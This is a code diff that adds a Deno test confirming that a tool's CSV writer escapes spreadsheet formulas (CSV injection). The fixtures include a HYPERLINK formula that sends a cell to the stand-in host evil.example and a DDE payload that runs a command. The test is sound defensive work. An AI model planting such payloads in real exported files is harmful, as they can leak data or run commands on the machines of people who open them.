@@ -130,6 +130,47 @@ Deno.test("publishing formats", async (t) => {
     assert.equal(csvField("plain"), "plain");
   });
 
+  await t.step("CSV: a formula from a result file stays text (CSV injection)", () => {
+    const evil = [
+      fakeRecord({
+        scene: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        handler: "+cmd|' /C calc'!A0",
+        error: "@SUM(1+1)",
+        summary: { energyRatio: -1.5, maxPenetrationDepth: -Infinity },
+      }),
+      fakeRecord({ handler: "-2+3", error: "\tTAB", status: "failed" }),
+      fakeRecord({ handler: "\r=1+1", error: "-1.5e-7" }),
+    ];
+    const matrix = table(evil, "matrix");
+    const [header, ...body] = parseCsv(TABLE_WRITERS.csv(matrix));
+    const at = (row: number, name: string) => body[row][header.indexOf(name)];
+    assert.equal(at(0, "scene"), `'${evil[0].scene}`);
+    assert.equal(at(0, "handler"), `'${evil[0].handler}`);
+    assert.equal(at(0, "error"), "'@SUM(1+1)");
+    assert.equal(at(1, "handler"), "'-2+3");
+    assert.equal(at(1, "error"), "'\tTAB");
+    assert.equal(at(2, "handler"), "'\r=1+1");
+    // numbers, negative ones included, stay numbers
+    assert.equal(at(0, "E/E₀"), "-1.5");
+    assert.equal(at(0, "penetration"), "-Infinity");
+    assert.equal(at(2, "error"), "-1.5e-7", "a text that is a number is not a formula");
+    for (const row of body) {
+      for (const field of row) assert.ok(!/^[=+@\t\r]/.test(field), `live cell ${field}`);
+    }
+    assert.equal(csvField("=1+1"), "'=1+1");
+    assert.equal(csvField('=A1,"x"'), `"'=A1,""x"""`);
+    assert.equal(csvField("a=b"), "a=b");
+    assert.equal(csvField("-"), "'-");
+    assert.equal(csvField("+5"), "+5");
+    // a comparison label given on the command line heads columns
+    const two = publishTables([
+      { label: "=evil()", records: [fakeRecord()] },
+      { label: "B", records: [fakeRecord()] },
+    ]).find((x) => x.name === "comparison")!;
+    const [head] = parseCsv(TABLE_WRITERS.csv(two));
+    assert.ok(head.includes("'=evil() ms/step"), head.join(","));
+  });
+
   await t.step("Markdown: one row per case with the same numbers", () => {
     const md = TABLE_WRITERS.md(table1);
     const lines = md.split("\n").filter((l) => l.startsWith("|"));
